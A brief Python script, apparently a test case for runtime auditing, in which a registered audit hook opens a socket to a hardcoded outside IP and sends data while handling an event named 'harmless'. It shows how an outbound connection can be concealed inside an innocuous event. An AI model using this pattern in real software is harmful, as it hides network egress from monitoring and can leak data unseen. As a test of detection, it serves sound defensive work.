"""A hook of the program's own connects, from inside the event of something harmless."""
import socket
import sys

busy = []


def hook(event, arguments):
    if event == "harmless" and not busy:
        busy.append(True)
        try:
            client = socket.socket()
            client.connect(("93.184.216.35", 9000))
            client.sendall(b"data")
        except OSError:
            pass


sys.addaudithook(hook)
sys.audit("harmless")
print("done")
